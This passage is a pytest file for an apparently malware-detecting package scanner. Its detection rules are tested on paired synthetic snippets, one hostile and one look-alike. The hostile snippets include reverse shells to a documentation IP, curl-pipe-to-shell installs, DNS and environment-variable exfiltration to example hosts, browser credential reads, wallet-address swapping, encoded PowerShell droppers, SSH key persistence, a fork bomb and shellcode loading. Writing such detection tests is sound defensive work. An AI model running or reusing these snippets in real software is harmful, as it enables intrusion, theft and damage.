"""Each YARA-backed rule on a small synthetic file that uses the technique, and on a
look-alike that does not. Hosts are reserved example names; nothing here is ever run."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from tests.analysis.builders import npm_tarball, run_rule, sdist
from threatfeed.analysis import Engine
from threatfeed.analysis.rules.base import Rule
from threatfeed.analysis.rules.obfuscation import obfuscated_code_rule
from threatfeed.analysis.rules.signature_rules import (
    clipboard_hijack_rule,
    credential_harvesting_rule,
    decode_and_execute_rule,
    destructive_command_rule,
    dns_exfiltration_rule,
    executes_code_at_remote_url_rule,
    persistence_rule,
    powershell_dropper_rule,
    reverse_shell_rule,
)

CASES: list[tuple[Rule, str, str, str]] = [
    (
        executes_code_at_remote_url_rule,
        "run.py",
        "import requests\nexec(requests.get('https://x.example.net/a.py').text)\n",
        "import requests\nprint(requests.get('https://x.example.net/a.json').text)\n",
    ),
    (
        executes_code_at_remote_url_rule,
        "get.py",
        "import urllib.request\nwith urllib.request.urlopen(u) as r:\n    exec(r.read())\n",
        "with open('tidy_strings/version.py') as fp:\n    exec(fp.read())\n"
        "ret = context.eval(sys.stdin.read())\n",
    ),
    (
        decode_and_execute_rule,
        "state.py",
        "import pickle, zlib\nstate = pickle.loads(zlib.decompress(b'x\\x9c\\xcb\\x48'))\n",
        "import pickle\nwith open(path, 'rb') as f:\n    state = pickle.loads(f.read())\n",
    ),
    (
        executes_code_at_remote_url_rule,
        "win_drop.py",
        "from os import environ, startfile\n"
        "open(environ['appdata'] + '\\\\w.pyw', 'w').write(src)\n"
        "startfile(environ['appdata'] + '\\\\w.pyw')\n",
        "from os import environ, startfile\n"
        "open(environ['appdata'] + '\\\\report.html', 'w').write(src)\n"
        "startfile(environ['appdata'] + '\\\\report.html')\n",
    ),
    (
        executes_code_at_remote_url_rule,
        "install.sh",
        "curl -fsSL https://x.example.net/i.sh | sh\n",
        "curl -fsSL https://x.example.net/i.sh -o notes.txt\n",
    ),
    (
        clipboard_hijack_rule,
        "inject.js",
        "const r = window.ethereum.request.bind(window.ethereum);\n"
        "window.ethereum.request = async (a) => {\n  const t = a.params[0];\n"
        "  if (t.data.startsWith('0xa9059cbb')) t.data = '0xa9059cbb' + MINE + t.data.slice(74);\n"
        "  return r(a);\n};\n",
        # a dapp asking the wallet to send a transfer it encoded itself
        "const data = encodeTransfer(to, amount);\n"
        "await window.ethereum.request({ method: 'eth_sendTransaction', params: [{ data }] });\n",
    ),
    (
        credential_harvesting_rule,
        "mail.js",
        "const msg = { From: from, To: to, Subject: subject, TextBody: body,\n"
        "  Bcc: 'archive@mail-audit.example.net' };\nawait client.sendEmail(msg);\n",
        # the user's own Bcc passed through
        "const msg = { From: from, To: to, Bcc: options.bcc, Subject: subject };\n",
    ),
    (
        decode_and_execute_rule,
        "index.min.js",
        "!function(){function e(r){return Buffer.from(r,'hex').toString()}"
        "var f=new module.constructor;f.paths=module.paths;f[e(n[7])](a,'');f.exports(n[1])}();\n",
        # a module built from a string the package holds as it is
        "const Module = require('module');\nconst m = new Module(file, parent);\n"
        "m._compile(source, file);\n",
    ),
    (
        decode_and_execute_rule,
        "run.py",
        "import builtins\nfrom . import _names\n\n"
        "getattr(builtins, bytes(_names.RUN).decode())(script)\n",
        "import builtins\n\nprint(getattr(builtins, 'len')([1]))\n",
    ),
    (
        decode_and_execute_rule,
        "check.py",
        "bits = ''.join('0' if c == ' ' else '1' for c in tail)\n"
        "data = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8))\n"
        "exec(data.decode())\n",
        # a bit string read as bytes and shown, not run
        "data = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8))\nprint(data)\n",
    ),
    (
        decode_and_execute_rule,
        "boot.py",
        "import builtins\nfrom . import _names\n\n"
        "vars(builtins)[bytearray(_names.RUN).decode()](script)\n",
        # a builtin looked up by a name the caller passed: a sandbox's allow-list
        "import builtins\n\ndef lookup(name):\n    return getattr(builtins, name)\n",
    ),
    (
        executes_code_at_remote_url_rule,
        "update.js",
        "const r = await Axios({ url, method: 'post', responseType: 'stream' });\n"
        "r.data.pipe(fs.createWriteStream(file));\n"
        "r.data.on('end', () => exec('node ' + file));\n",
        # a download saved, and node run on a script of the package's own
        "const r = await Axios({ url, responseType: 'stream' });\n"
        "r.data.pipe(fs.createWriteStream(file));\nexec('node scripts/report.js');\n",
    ),
    (
        executes_code_at_remote_url_rule,
        "fetch.py",
        "import requests, subprocess\nr = requests.get(u)\nopen(p, 'wb').write(r.content)\n"
        "subprocess.call([p])\n",
        "import requests\nr = requests.get(u)\nopen(p, 'wb').write(r.content)\n",
    ),
    (
        executes_code_at_remote_url_rule,
        "hide.js",
        "const { exec } = require('child_process');\nconst url = 'https://x.example.net/c.exe';\n"
        "exec(`curl -o ${dest} ${url}`, () => exec(`start ${dest}`));\n",
        "const { exec } = require('child_process');\nconst url = 'https://x.example.net/c.zip';\n"
        "exec(`curl -o ${dest} ${url}`, () => exec(`unzip ${dest}`));\n",
    ),
    (
        executes_code_at_remote_url_rule,
        "load.js",
        "require('child_process').exec('node l.js https://x.example.net/a.exe aa.exe', cb);\n",
        "require('child_process').exec('node l.js https://x.example.net/a.json a.json', cb);\n",
    ),
    (
        decode_and_execute_rule,
        "m.py",
        "import base64\nexec(base64.b64decode(b'cHJpbnQoMSk='))\n",
        "import base64\nprint(base64.b64decode(b'cHJpbnQoMSk='))\n",
    ),
    (
        decode_and_execute_rule,
        "m.js",
        "eval(atob('Y29uc29sZS5sb2coMSk='));\n",
        "console.log(atob('Y29uc29sZS5sb2coMSk='));\n",
    ),
    (
        reverse_shell_rule,
        "r.py",
        "import socket, os, pty\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\n"
        "os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
        "import socket\ns = socket.socket()\ns.connect(('198.51.100.7', 80))\ns.send(b'hi')\n",
    ),
    (
        reverse_shell_rule,
        "r.sh",
        "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n",
        "bash -c 'echo hello'\n",
    ),
    (
        powershell_dropper_rule,
        "p.py",
        "import os\nos.system('powershell -w hidden -EncodedCommand "
        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA')\n",
        "import os\nos.system('powershell -NoProfile Get-ChildItem')\n",
    ),
    (
        powershell_dropper_rule,
        "d.ps1",
        "Invoke-WebRequest -Uri https://x.example.net/a.exe -OutFile $env:TEMP\\a.exe\n"
        "Start-Process $env:TEMP\\a.exe -WindowStyle Hidden # powershell\n",
        "Write-Output 'powershell is fine'\n",
    ),
    (
        credential_harvesting_rule,
        "c.py",
        "import os\np = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data')\n"
        "state = open(os.path.join(p, 'Local State')).read()\nkey = state['os_crypt']"
        "['encrypted_key']\n",
        "import os\nprint(os.getenv('LOCALAPPDATA'))\n",
    ),
    (
        credential_harvesting_rule,
        "k.mjs",
        "const q = (k) => fetch('https://x.example.net/h', { headers: { 'x-id': btoa(k) } });\n"
        "export class Keypair {\n  constructor(kp) { q(bs58.encode(kp.secretKey)); }\n}\n",
        # wallet libraries encode keys to export them, and send nothing
        "export const toBase58 = (kp) => bs58.encode(kp.secretKey);\n",
    ),
    (
        credential_harvesting_rule,
        "a.py",
        "from eth_account import Account\n\n_orig = Account.from_key\n"
        "setattr(Account, 'from_key', lambda key: _keep(key) or _orig(key))\n",
        "from eth_account import Account\n\nacct = Account.from_key(KEY)\n",
    ),
    (
        credential_harvesting_rule,
        "t.py",
        "import os\n"
        "KEYS = ('GITHUB_TOKEN', 'NPM_TOKEN', 'TWINE_PASSWORD', 'AWS_SECRET_ACCESS_KEY',\n"
        "        'DOCKERHUB_TOKEN')\n"
        "blob = {k: os.environ[k] for k in KEYS if k in os.environ}\n",
        # an LLM gateway reads the keys of the AI and cloud providers it serves
        "import os\nKEYS = ('OPENAI_API_KEY', 'ANTHROPIC_API_KEY', 'AWS_SECRET_ACCESS_KEY',\n"
        "        'AZURE_CLIENT_SECRET', 'GOOGLE_APPLICATION_CREDENTIALS', 'GITHUB_TOKEN')\n"
        "creds = {k: os.environ.get(k) for k in KEYS}\n",
    ),
    (
        credential_harvesting_rule,
        "v.js",
        "req.end(JSON.stringify({ name: pkg.name, env: process.env, assets }));\n",
        "spawn('git', ['status'], { cwd, env: process.env });\n",
    ),
    (
        credential_harvesting_rule,
        "u.js",
        "const root = path.join(home, 'AppData/Local/Google/Chrome/User Data');\n"
        "for (const f of ['Local State', 'Default/Login Data']) send(path.join(root, f));\n",
        "const root = path.join(home, 'AppData/Local/Google/Chrome/User Data');\n",
    ),
    (
        credential_harvesting_rule,
        "w.js",
        "const ext = 'nkbihfbeogaeaoehlefnkodbefgpgknn';\n",
        "const ext = 'some-other-extension';\n",
    ),
    (
        dns_exfiltration_rule,
        "b.sh",
        "nslookup $(whoami).x.example.net\n",
        "nslookup example.net\n",
    ),
    (
        decode_and_execute_rule,
        "n.py",
        "def dec(s):\n    return s\nexec(dec('" + "QUJD" * 40 + "'))\n",
        "def dec(s):\n    return s\nprint(dec('" + "QUJD" * 40 + "'))\n",
    ),
    (
        dns_exfiltration_rule,
        "q.py",
        "import subprocess\nsubprocess.getoutput(f'ping -c1 {label}.x.example.net')\n",
        "import subprocess\nsubprocess.getoutput('ping -c1 x.example.net')\n",
    ),
    (
        persistence_rule,
        "p.py",
        "key = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n",
        "key = r'Software\\Example\\Settings'\n",
    ),
    (
        persistence_rule,
        "bg.js",
        "const { spawn } = require('child_process');\n"
        "spawn('node', ['job.js'], { detached: true, stdio: 'ignore' }).unref();\n",
        "const { spawn } = require('child_process');\n"
        "spawn('node', ['job.js'], { stdio: 'inherit' }).on('exit', done);\n",
    ),
    (
        persistence_rule,
        "k.js",
        "const fs = require('fs');\nconst k = 'ssh-ed25519 AAAAC3Nz0000 someone@example';\n"
        "fs.appendFileSync('/home/u/.ssh/authorized_keys', k);\n",
        "// see ~/.ssh/authorized_keys for the keys this server accepts\n"
        "const k = 'ssh-ed25519 AAAAC3Nz0000 someone@example';\n",
    ),
    (
        executes_code_at_remote_url_rule,
        "d.js",
        "const http = require('http'), fs = require('fs'), cp = require('child_process');\n"
        "http.get('http://x.example.net/b', (r) => { r.pipe(fs.createWriteStream('/tmp/b'));\n"
        "  r.on('end', () => { fs.chmodSync('/tmp/b', 0o755); cp.exec('/tmp/b'); }); });\n",
        "const http = require('http'), fs = require('fs');\n"
        "http.get('http://x.example.net/b', (r) => { r.pipe(fs.createWriteStream('/tmp/b'));\n"
        "  r.on('end', () => fs.chmodSync('/tmp/b', 0o644)); });\n",
    ),
    (
        executes_code_at_remote_url_rule,
        "n.js",
        "const cp = require('child_process'), fs = require('fs');\n"
        "fetch(url).then((r) => r.text()).then((t) => { fs.writeFileSync(p, t);\n"
        "  cp.exec(`node ${p}`); });\n",
        "const cp = require('child_process'), fs = require('fs');\n"
        "fetch(url).then((r) => r.text()).then((t) => fs.writeFileSync(p, t));\n"
        "cp.exec(`node --version`);\n",
    ),
    (
        decode_and_execute_rule,
        "x.py",
        "exec('" + "".join(f"\\x{b:02x}" for b in b"print('hi there')") + "')\n",
        "print('" + "".join(f"\\x{b:02x}" for b in b"print('hi there')") + "')\n",
    ),
    (
        executes_code_at_remote_url_rule,
        "c.js",
        "const fs = require('fs');\nprocess.env['NODE_TLS_REJECT_UNAUTHORIZED'] = 0;\n"
        "const r = request('GET', 'https://x.example.net/c');\nfs.writeFileSync(p, r.body);\n",
        "const fs = require('fs');\n"
        "const r = request('GET', 'https://x.example.net/c');\nfs.writeFileSync(p, r.body);\n",
    ),
    (
        decode_and_execute_rule,
        "s.py",
        "import base64, os\nos.system(base64.b64decode('ZWNobyBoaQ==').decode())\n",
        "import base64, os\nprint(base64.b64decode('ZWNobyBoaQ==').decode())\nos.system('ls')\n",
    ),
    (
        decode_and_execute_rule,
        "s.js",
        "require('child_process').execSync(Buffer.from('ZWNobyBoaQ==', 'base64').toString());\n",
        "console.log(Buffer.from('ZWNobyBoaQ==', 'base64').toString());\n",
    ),
    (
        executes_code_at_remote_url_rule,
        "w.js",
        "require('child_process').execSync('wget https://x.example.net/b -O ./.b >/dev/null 2>&1"
        " && chmod +x .b && ./.b');\n",
        "require('child_process').execSync('wget https://x.example.net/b.tgz -O b.tgz"
        " && tar xzf b.tgz && ./configure');\n",
    ),
    (
        decode_and_execute_rule,
        "x.py",
        "key = 'k3y'\nsrc = ''\nfor i, c in enumerate(blob):\n"
        "    src += chr(ord(c) ^ ord(key[i % 3]))\nexec(compile(src, '<s>', 'exec'))\n",
        "key = 'k3y'\nsrc = ''\nfor i, c in enumerate(blob):\n"
        "    src += chr(ord(c) ^ ord(key[i % 3]))\nprint(src)\n",
    ),
    (
        decode_and_execute_rule,
        "xa.py",
        "import sys\nrun = exec\nsrc = ''.join(chr(ord(c) ^ 7) for c in blob)\nrun(src)\n",
        "import sys\nrun = print\nsrc = ''.join(chr(ord(c) ^ 7) for c in blob)\nrun(src)\n",
    ),
    (
        powershell_dropper_rule,
        "w.py",
        "import subprocess\nsubprocess.Popen(['powershell.exe', '-NoProfile',\n"
        "    '-EncodedCommand', code])\n",
        "import subprocess\nsubprocess.Popen(['powershell.exe', '-NoProfile',\n"
        "    '-File', script])\n",
    ),
    (
        dns_exfiltration_rule,
        "d.py",
        "import os\nhexed = ''.join('%02x' % ord(c) for c in os.getlogin())\n"
        "os.system('ping %s' % (hexed + '.x.example.net'))\n",
        "import os\nos.system('ping %s' % host)\n",
    ),
    (
        destructive_command_rule,
        "k.js",
        "require('child_process').exec('shutdown -s -t 0');\n",
        "console.log('shutdown complete');\n",
    ),
    (
        executes_code_at_remote_url_rule,
        "drop.py",
        "import os, subprocess, urllib.request\nurl = 'https://x.example.net/tool.exe'\n"
        "data = urllib.request.urlopen(url).read()\nwith open(p, 'wb') as f:\n"
        "    f.write(data)\nsubprocess.call([p])\n",
        "import urllib.request\nurl = 'https://x.example.net/tool.exe'\n"
        "data = urllib.request.urlopen(url).read()\nwith open(p, 'wb') as f:\n    f.write(data)\n",
    ),
    (
        executes_code_at_remote_url_rule,
        "fetch_exe.py",
        "import subprocess, urllib.request\npath = os.path.join(d, 'helper.exe')\n"
        "urllib.request.urlretrieve(url, path)\nsubprocess.run([path])\n",
        "import subprocess, urllib.request\npath = os.path.join(d, 'data.csv')\n"
        "urllib.request.urlretrieve(url, path)\nsubprocess.run(['wc', path])\n",
    ),
    (
        executes_code_at_remote_url_rule,
        "tmp_run.py",
        "import subprocess\nwith open('/tmp/t.py', 'w') as f:\n    f.write(src)\n"
        "subprocess.call('python3 /tmp/t.py &', shell=True)\n",
        "import subprocess, tempfile\nwith tempfile.NamedTemporaryFile('w', suffix='.py') as f:\n"
        "    f.write(src)\n    subprocess.call(['python3', f.name])\n",
    ),
    (
        credential_harvesting_rule,
        "sess.py",
        "import os\nfor name in os.listdir(folder):\n    if name.endswith('.session'):\n"
        "        found.append(name)\n",
        "import os\nfor name in os.listdir(folder):\n    if name.endswith('.json'):\n"
        "        found.append(name)\n",
    ),
    (
        executes_code_at_remote_url_rule,
        "post_install.py",
        "import os, subprocess, urllib.request\nurllib.request.urlretrieve(url, path)\n"
        "os.chmod(path, 0o755)\nsubprocess.run(['/bin/bash', path])\n",
        "import os, subprocess, urllib.request\nurllib.request.urlretrieve(url, path)\n"
        "subprocess.run(['sha256sum', path])\n",
    ),
    (
        powershell_dropper_rule,
        "ps.py",
        'CODE = """$b = [Convert]::FromBase64String($p)\n$c = [Text.Encoding]::UTF8.GetString($b)\n'
        'Invoke-Expression $c"""\n',
        'CODE = """$b = [Convert]::FromBase64String($p)\n[IO.File]::WriteAllBytes($out, $b)"""\n',
    ),
    (
        dns_exfiltration_rule,
        "dig.py",
        "import base64, subprocess\nlabel = base64.urlsafe_b64encode(data).decode()\n"
        "subprocess.Popen(['dig', '+short', f'{label}.x.example.net'])\n",
        "import subprocess\nsubprocess.Popen(['dig', '+short', host])\n",
    ),
    (
        credential_harvesting_rule,
        "info.py",
        "import os, socket\ndata = {'host': socket.gethostname(), 'env': dict(os.environ)}\n",
        "import os\ndata = {'home': os.environ.get('HOME'), 'debug': 'DEBUG' in os.environ}\n",
    ),
    (
        decode_and_execute_rule,
        "split.py",
        "import base64, zlib\nX = base64.b64decode(X)\nX = zlib.decompress(X)\n"
        "if X:\n    exec(X)\n",
        "import base64, zlib\nX = base64.b64decode(X)\nX = zlib.decompress(X)\n"
        "if X:\n    print(X)\n",
    ),
    (
        decode_and_execute_rule,
        "blank.py",
        '_ = eval("\\x65\\166\\x61\\154")\n',
        '_ = eval("1 + 2")\n',
    ),
    (
        decode_and_execute_rule,
        "subst.py",
        "table = dict(zip(a, b))\nexec(''.join([table.get(c, c) for c in 'vnklig lh']))\n",
        "table = dict(zip(a, b))\nprint(''.join([table.get(c, c) for c in 'vnklig lh']))\n",
    ),
    (
        executes_code_at_remote_url_rule,
        "upd.py",
        "from os import system\nfrom urllib import request\nwith open(p, 'w') as f:\n"
        "    f.write(request.urlopen(u).read().decode())\nsystem(f'start {exe} {p}')\n",
        "from urllib import request\nwith open(p, 'w') as f:\n"
        "    f.write(request.urlopen(u).read().decode())\n",
    ),
    (
        executes_code_at_remote_url_rule,
        "ext.py",
        "import subprocess, sys\nr = session.get(EXT_URL, timeout=15)\ncode = r.text\n"
        "with open(path, 'w') as f:\n    f.write(code)\n"
        "subprocess.Popen([sys.executable, path, arg])\n",
        "import subprocess, sys\nr = session.get(EXT_URL, timeout=15)\ncode = r.text\n"
        "with open(path, 'w') as f:\n    f.write(code)\n"
        "subprocess.Popen([sys.executable, '-m', 'json.tool', path])\n",
    ),
    (
        powershell_dropper_rule,
        "hid.py",
        "subprocess.Popen(['powershell.exe', '-ExecutionPolicy', 'Bypass',\n"
        "    '-WindowStyle', 'Hidden', '-File', path])\n",
        "subprocess.Popen(['powershell.exe', '-ExecutionPolicy', 'Bypass', '-File', path])\n",
    ),
    (
        persistence_rule,
        "startup.py",
        "import os\nstartup = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows',\n"
        "    'Start Menu', 'Programs', 'Startup')\n",
        "import os\nmenu = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows',\n"
        "    'Start Menu', 'Programs')\n",
    ),
    (
        decode_and_execute_rule,
        "post.js",
        "require('child_process').execSync(Buffer.from([101,99,104,111,32,104,105]));\n",
        "require('child_process').execSync(Buffer.from('echo hi').toString());\n",
    ),
    (
        persistence_rule,
        "u.js",
        "const run = require('child_process').spawn;\n"
        "run(cmd, [], { shell: true, detached: true, stdio: 'ignore' }).unref();\n",
        "const run = require('child_process').spawn;\nrun(cmd, [], { shell: true });\n",
    ),
    (
        destructive_command_rule,
        "havoc.sh",
        "#!/bin/sh\n:(){ :|: & };:\n",
        "#!/bin/sh\nf(){ echo hi; }\nf\n",
    ),
    (
        executes_code_at_remote_url_rule,
        "fetch.py",
        "import requests\n\nanswer = requests.get(URL)\nexec(answer.text)\n",
        # the scripts a shipped XML document embeds, run with no download in the file
        "import xml.etree.ElementTree as ET\n\nfor node in ET.parse(path).findall('Script'):\n"
        "    exec(node.text, locals())\n",
    ),
    (
        credential_harvesting_rule,
        "env.py",
        "import os, requests\n\nrequests.post(URL, json={'env': dict(os.environ)})\n",
        # the environment handed to a child process
        "import os, subprocess\n\nkwargs = {'env': os.environ.copy(), 'shell': False}\n"
        "subprocess.run(['python', '-V'], **kwargs)\n",
    ),
    (
        decode_and_execute_rule,
        "rev.py",
        "CODE = ')(niam'\nexec(CODE[::-1])\n",
        "import numpy as np\n\ncoeffs = np.array(eval(items[2])[::-1])\n",
    ),
    (
        powershell_dropper_rule,
        "dl.ps1",
        "$wc = New-Object Net.WebClient\nIEX $wc.DownloadString('https://x.example.net/a')\n"
        "# powershell\n",
        # a PDF viewer's download manager next to an `iex` and a language list, in a bundle
        "manager.openOrDownloadData(data, name); var iex = 1; var langs = ['powershell'];\n",
    ),
    (
        clipboard_hijack_rule,
        "watch.py",
        "import re, pyperclip\nWALLET = re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$')\n"
        "def tick(mine):\n    text = pyperclip.paste()\n"
        "    if WALLET.match(text):\n        pyperclip.copy(mine)\n",
        # a wallet tool that validates a pasted address and never writes the clipboard
        "import re, pyperclip\nADDRESS = re.compile(r'^0x[a-fA-F0-9]{40}$')\n"
        "def recipient():\n    text = pyperclip.paste()\n"
        "    return text if ADDRESS.match(text) else None\n",
    ),
    (
        decode_and_execute_rule,
        "templates.js",
        "const vm = require('vm');\nfor (const c of comments) {\n"
        "  const code = Buffer.from(c.tag, 'base64').toString('utf8');\n"
        "  vm.runInThisContext(code)(require, process);\n}\n",
        # an inline source map decoded and parsed; a template compiled from a literal
        "const map = JSON.parse(Buffer.from(inline, 'base64').toString());\n"
        "const render = new Function('data', 'return `<p>${data.name}</p>`');\n",
    ),
    (
        clipboard_hijack_rule,
        "drain.js",
        "const swap = (t) => t.replace(/\\b0x[a-fA-F0-9]{40}\\b/g, MINE);\n"
        "const _fetch = window.fetch;\n"
        "window.fetch = (...a) =>\n"
        "  _fetch(...a).then((r) => r.text()).then((t) => new Response(swap(t)));\n",
        # a monitoring agent that wraps fetch, and a dapp helper that validates addresses
        "const _fetch = window.fetch;\n"
        "window.fetch = (...a) => {\n"
        "  const t0 = Date.now();\n  return _fetch(...a).finally(() => report(t0));\n};\n"
        "export const isAddress = (s) => /^0x[a-fA-F0-9]{40}$/.test(s);\n"
        "if (window.fetch === undefined) polyfill();\n",
    ),
    (
        executes_code_at_remote_url_rule,
        "fetch.py",
        "import os, requests, tempfile\ns = requests.Session()\nr = s.get(URL, stream=True)\n"
        "out = os.path.join(tempfile.gettempdir(), 'helper_update.exe')\n"
        "with open(out, 'wb') as f:\n    for c in r.iter_content(32768):\n        f.write(c)\n"
        "os.startfile(out)\n",
        # a dataset streamed to disk, then a tool run on it: no executable is saved
        "import subprocess, requests\nr = requests.get(URL, stream=True)\n"
        "with open('data.zip', 'wb') as f:\n"
        "    for c in r.iter_content(32768):\n        f.write(c)\n"
        "subprocess.run(['unzip', 'data.zip'])\n",
    ),
    (
        reverse_shell_rule,
        "agent.py",
        "import json, socket, subprocess\nsock = socket.create_connection((HOST, 2245))\n"
        "for line in sock.makefile():\n    msg = json.loads(line)\n"
        "    out = subprocess.run(msg['cmd'], shell=True, capture_output=True)\n",
        # a client that connects and runs a fixed command of its own
        "import socket, subprocess\nsock = socket.create_connection((HOST, 443))\n"
        "config = {'cmd': 'git'}\nsubprocess.run(['git', 'status'])\n",
    ),
    (
        decode_and_execute_rule,
        "native.py",
        "import ctypes\nk32 = ctypes.windll.kernel32\n"
        "ptr = k32.VirtualAlloc(None, len(buf), 0x3000, 0x40)\n"
        "ctypes.memmove(ctypes.c_void_p(ptr), buf, len(buf))\n"
        "k32.CreateThread(None, 0, ctypes.c_void_p(ptr), None, 0, None)\n",
        # ctypes calling into a native library it ships, memory copied, nothing started
        "import ctypes\nlib = ctypes.CDLL('libfast.so')\n"
        "ctypes.memmove(dst, src, n)\nlib.compute(dst)\n",
    ),
    (
        credential_harvesting_rule,
        "ci.js",
        "const pid = execSync('pgrep -f Runner.Worker').toString().trim();\n"
        "const mem = fs.openSync(`/proc/${pid}/mem`, 'r');\n",
        "// Runner.Worker logs are uploaded by the runner itself\nconst log = 'Runner.Worker';\n",
    ),
    (
        reverse_shell_rule,
        "sync.py",
        "import json, subprocess, urllib.request\n"
        "tasks = json.loads(urllib.request.urlopen(GIST).read())['tasks']\n"
        "for task in tasks:\n    subprocess.run(task['cmd'], shell=True)\n",
        # a build tool running the commands of its own config file
        "import json, subprocess\nconfig = json.load(open('tasks.json'))\n"
        "for task in config['tasks']:\n    subprocess.run(task['cmd'], shell=True)\n",
    ),
]


@pytest.mark.parametrize(("rule", "path", "bad", "good"), CASES)
def test_rule_fires_on_technique_and_not_on_look_alike(
    engine: Engine, rule: Rule, path: str, bad: str, good: str
) -> None:
    evidence = run_rule(engine, rule, sdist({f"tidy_strings/{path}": bad}))
    assert evidence, f"{rule.__name__} missed {path}"
    assert evidence[0]["file"].endswith(path)
    assert evidence[0]["line"] >= 1
    assert evidence[0]["signatures"]
    assert run_rule(engine, rule, sdist({f"tidy_strings/{path}": good})) is None


def test_signature_in_npm_package_json_hook(engine: Engine) -> None:
    archive = npm_tarball(scripts={"preinstall": "curl https://x.example.net/a | bash"})
    evidence = run_rule(engine, executes_code_at_remote_url_rule, archive)
    assert evidence[0]["file"] == "package/package.json"


def test_signal_sits_at_the_code_not_at_the_docstring_example(engine: Engine) -> None:
    """A doctest line matching first does not demote the code below it to documentation;
    a technique only present in comments is documentation, on any line of the file."""
    from tests.analysis.builders import package

    code = (
        '"""Example:\n\n    >>> import base64\n    >>> exec(base64.b64decode(x))\n"""\n'
        "import base64\nexec(base64.b64decode(b'cHJpbnQoMSk='))\n"
    )
    found = decode_and_execute_rule(package(engine, sdist({"tidy_strings/m.py": code})))
    assert found is not None
    assert {s.context for s in found.signals} == {"code"}
    assert found.signals[0].line == 7
    commented = "import base64\n# exec(base64.b64decode(b'cHJpbnQoMSk='))\n"
    found = decode_and_execute_rule(package(engine, sdist({"tidy_strings/m.py": commented})))
    assert found is not None
    assert {s.context for s in found.signals} == {"docs"}


def test_developer_scripts_in_the_manifest_are_not_install_code(engine: Engine) -> None:
    """``"test:e2e": "curl ... | sh"`` is run by a developer on demand, not by npm on
    install: documentation weight; the same command in ``postinstall`` is install code."""
    from tests.analysis.builders import package

    dev = npm_tarball(scripts={"test:e2e": "curl -LsSf https://x.example.net/i.sh | sh"})
    found = executes_code_at_remote_url_rule(package(engine, dev))
    assert found is not None
    assert {s.context for s in found.signals} == {"docs"}
    hook = npm_tarball(scripts={"postinstall": "curl -LsSf https://x.example.net/i.sh | sh"})
    found = executes_code_at_remote_url_rule(package(engine, hook))
    assert found is not None
    assert {s.context for s in found.signals} == {"install"}


SESSION_SEARCH = (
    "import os, requests\n\ndef sync(folder):\n"
    "    for name in os.listdir(folder):\n"
    "        if name.endswith('.session'):\n"
)


def test_telegram_sessions_found_and_uploaded_flag(engine: Engine) -> None:
    archive = sdist(
        {
            "tidy_strings/backup.py": SESSION_SEARCH
            + "            with open(os.path.join(folder, name), 'rb') as f:\n"
            "                requests.post('https://files.example.net/up', files={'f': f})\n"
        }
    )
    evidence = run_rule(engine, credential_harvesting_rule, archive)
    assert "uploads the Telegram session files it finds" in evidence[0]["signatures"]
    assert engine.analyze(archive).flagged


def test_telegram_sessions_listed_by_a_client_are_not_uploads(engine: Engine) -> None:
    archive = sdist(
        {
            "tidy_strings/accounts.py": SESSION_SEARCH
            + "            print(name, requests.get('https://status.example.net').status_code)\n"
        }
    )
    evidence = run_rule(engine, credential_harvesting_rule, archive)
    assert evidence[0]["signatures"] == ["searches folders for Telegram client session files"]
    assert not engine.analyze(archive).flagged


def test_marshal_of_an_embedded_base64_blob_is_obfuscation(engine: Engine) -> None:
    label = "unmarshals an embedded base64 blob (compiled code or tables kept unreadable)"
    blob = (
        "import base64, marshal\nt = marshal.loads(base64.b64decode('2x4AAAD1BAAAAPCfmID1BAAA'))\n"
    )
    local = "import marshal\nwith open(path, 'rb') as f:\n    t = marshal.loads(f.read())\n"
    found = run_rule(engine, obfuscated_code_rule, sdist({"tidy_strings/t.py": blob}))
    assert label in found[0]["techniques"]
    assert run_rule(engine, obfuscated_code_rule, sdist({"tidy_strings/t.py": local})) is None


STARTUP = (
    "os.path.expanduser("
    "'~\\\\AppData\\\\Roaming\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup')"
)


def test_download_saved_into_the_startup_folder_flags(engine: Engine) -> None:
    code = (
        f"import os, requests\nd = {STARTUP}\nr = requests.get(url)\n"
        "with open(os.path.join(d, 'a.pyw'), 'wb') as f:\n    f.write(r.content)\n"
    )
    archive = sdist({"tidy_strings/fetch.py": code})
    evidence = run_rule(engine, persistence_rule, archive)
    assert any("saves a download" in label for label in evidence[0]["signatures"])
    assert engine.analyze(archive).flagged


def test_an_app_registering_itself_at_logon_is_no_download_drop(engine: Engine) -> None:
    code = (
        f"import os, shutil, requests\nd = {STARTUP}\n"
        "shutil.copy(sys.executable, os.path.join(d, 'app.exe'))\n"
        "print(requests.get('https://updates.example.net/latest').json())\n"
    )
    evidence = run_rule(engine, persistence_rule, sdist({"tidy_strings/autostart.py": code}))
    assert evidence[0]["signatures"] == ["installs itself to run at logon"]


NATIVE_JS = (
    "const https = require('https'), fs = require('fs'), os = require('os');\n"
    "const dest = os.tmpdir() + '/helper.node';\n"
    "https.get('https://cdn.example.net/helper-' + process.platform + '.node', (res) => {\n"
    "  res.pipe(fs.createWriteStream(dest)).on('finish', () => {\n"
    "    const m = { exports: {} };\n    process.dlopen(m, dest);\n    m.exports.start();\n"
    "  });\n});\n"
)


def test_a_native_addon_downloaded_and_loaded_at_run_time_is_reported(engine: Engine) -> None:
    evidence = run_rule(
        engine, executes_code_at_remote_url_rule, npm_tarball({"index.js": NATIVE_JS})
    )
    assert evidence[0]["signatures"] == ["downloads a native library and loads it"]


def test_a_native_library_downloaded_and_loaded_through_ctypes_is_reported(
    engine: Engine,
) -> None:
    code = (
        "import ctypes, os, tempfile, urllib.request\n"
        "path = os.path.join(tempfile.gettempdir(), 'libhelper.so')\n"
        "with open(path, 'wb') as f:\n"
        "    f.write(urllib.request.urlopen('https://cdn.example.net/libhelper.so').read())\n"
        "ctypes.CDLL(path).start()\n"
    )
    evidence = run_rule(
